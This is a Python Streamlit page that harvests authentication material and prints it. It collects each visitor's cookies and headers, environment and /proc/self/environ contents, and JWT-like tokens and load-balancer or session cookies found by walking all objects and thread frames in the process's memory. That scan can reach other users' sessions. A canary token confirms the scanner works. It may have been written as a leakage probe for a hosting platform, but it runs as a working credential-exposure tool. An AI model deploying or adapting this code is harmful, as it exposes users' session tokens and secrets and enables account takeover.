"""A page whose code searches all that Python can see for what proves its visitors. Shows it as JSON."""

import gc
import json
import os
import re
import sys
from pathlib import Path
from types import FrameType

import streamlit as st

# Tokens and sealed sessions are JSON in base64, with dots between; a cookie has its name before it.
PATTERN = r"eyJ[\w=-]{10,}(?:\.[\w=-]*){2,4}|(?:streamgate-[\w-]+|AWSALB\w*|AWSELB\w*)=[^;\s\\'\"]{3,}"
TEXT, BYTES = re.compile(PATTERN, re.IGNORECASE), re.compile(PATTERN.encode(), re.IGNORECASE)


def tokens_in(value: object) -> list[str]:
    if isinstance(value, str):
        return TEXT.findall(value)
    return [found.decode("latin-1") for found in BYTES.findall(value)]


def everything_in_memory() -> set[str]:
    """Whatever the collector knows, and all that hangs on it: frames that wait, and those that run, too."""
    found: set[str] = set()
    seen: set[int] = set()
    frames: list[FrameType | None] = list(sys._current_frames().values())
    todo: list[object] = [*gc.get_objects(), *frames, *(frame.f_locals for frame in frames if frame)]
    keep = [todo, seen, found, frames]
    seen.update(map(id, keep))
    while todo:
        value = todo.pop()
        if id(value) in seen:
            continue
        seen.add(id(value))
        if isinstance(value, str | bytes | bytearray | memoryview):
            found.update(tokens_in(value))
        else:
            todo.extend(gc.get_referents(value))
    return found


# It would find a token, if there were one: this one is made where it runs, and no source holds it.
canary = ".".join(["eyJ" + "canary" * 3, "canary", "canary"])
holder = {"of": [("a", (canary.encode(), 1))]}
found = {
    "cookies": [f"{name}={value}" for name, value in st.context.cookies.items()],
    "headers": [f"{name}: {value}" for name, value in st.context.headers.items()],
    "environment": tokens_in(" ".join(f"{name}={value}" for name, value in os.environ.items())),
    "process": [
        token for file in Path("/proc/self").glob("environ") for token in tokens_in(file.read_bytes())
    ],
    "memory": sorted(everything_in_memory()),
    "canary": canary,
}
st.text(f"FOUND{json.dumps(found)}END")
